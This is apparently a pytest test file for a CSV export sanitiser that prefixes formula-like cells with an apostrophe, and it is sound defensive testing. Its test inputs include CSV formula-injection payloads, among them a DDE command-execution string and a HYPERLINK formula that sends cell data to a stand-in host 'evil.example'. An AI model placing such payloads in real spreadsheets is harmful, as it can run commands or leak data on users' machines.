import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.csv_texts import as_cells


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1)',
        "-",
        "+44 20 7946 0000",
        "-1-1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
    ],
)
def test_what_looks_like_a_formula_is_a_text(text: str) -> None:
    assert as_cells([text]) == [f"'{text}"]


@pytest.mark.parametrize(
    "value", ["-0.05", "+3", "-1e-9", "1", -1, -0.05, 3, None, True, "", "A trust", "'=1", " =1"]
)
def test_numbers_and_other_texts_stay(value: object) -> None:
    assert as_cells([value]) == [value]


@given(st.text())
def test_a_cell_is_what_was_there_perhaps_behind_an_apostrophe(text: str) -> None:
    (cell,) = as_cells([text])

    assert cell in {text, f"'{text}"}
    assert as_cells([cell]) == [cell]
